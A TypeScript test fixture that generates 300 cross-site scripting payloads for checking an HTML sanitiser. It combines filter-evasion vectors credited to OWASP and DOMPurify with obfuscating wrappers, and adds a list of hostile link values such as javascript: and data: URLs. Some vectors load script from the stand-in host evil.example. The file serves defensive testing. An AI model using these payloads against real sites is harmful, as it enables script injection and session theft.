/** What every payload tries to run: the test looks for the mark that it would leave. */
const RUN = 'top.__hit=1'
const EVIL = 'https://evil.example'

/** Ways to run a script, from the filter evasion lists of OWASP and the fixtures of DOMPurify. */
const vectors: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src='x'/onerror='${RUN}'//`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#x6A;avascript&colon;${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>x</details><input autofocus onfocus=${RUN}>`,
  `<form action="javascript:${RUN}"><button id=x>x</button></form><button form=x formaction="javascript:${RUN}">x`,
  `<p style="animation-name:x" onanimationstart=${RUN} onmouseover=${RUN}>x</p><style>@import '${EVIL}/x.css'</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}"><base href="${EVIL}/">`,
  `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}></audio><body onload=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template><xss onclick=${RUN} tabindex=1 id=x>x</xss>`,
  `<link rel=stylesheet href="${EVIL}/x.css"><link rel=import href="data:text/html,<script>${RUN}</script>">`,
]

const inMiddle = (text: string, change: (sign: string) => string): string =>
  text.replace(/(?<=<\w)\w/g, change)

/** Ways to hide a payload: in markers, in other markup, in letters of another size. */
const wrappers: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<p>Hei</p><table><tr><td>${payload}</td></tr></table>`,
  (payload) => `[txt|${payload}]`,
  (payload) => inMiddle(payload, (sign) => `[txt|${sign}]`),
  (payload) => payload.replaceAll('javascript', 'java[txt|scr[txt|ip]t]').replaceAll('on', 'o[txt|]n'),
  (payload) => payload.replaceAll('<', '[txt|<]').replaceAll('=', '=[txt|]'),
  (payload) => inMiddle(payload, (sign) => sign.toUpperCase()).replaceAll('javascript', 'JaVaScRiPt'),
  (payload) => `<a href="https://example.fi" title="x">${payload}`,
  (payload) => `"><!--><b title='[txt|'>${payload}]<!-- `,
  (payload) => `<svg><style>${payload}</style></svg><textarea>${payload}</textarea>${payload}`,
]

/** 300 of them, the same in every run. */
export const payloads: readonly string[] = wrappers.flatMap((wrap) => vectors.map((vector) => wrap(vector)))

/** Links of announcements that must never become links. */
export const hostileLinks: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  '//evil.example',
  '/\\evil.example',
  `[txt|javascript:${RUN}]`,
  `https://x.fi" onclick="${RUN}`,
  `javascript://x.fi/%0A${RUN}`,
]
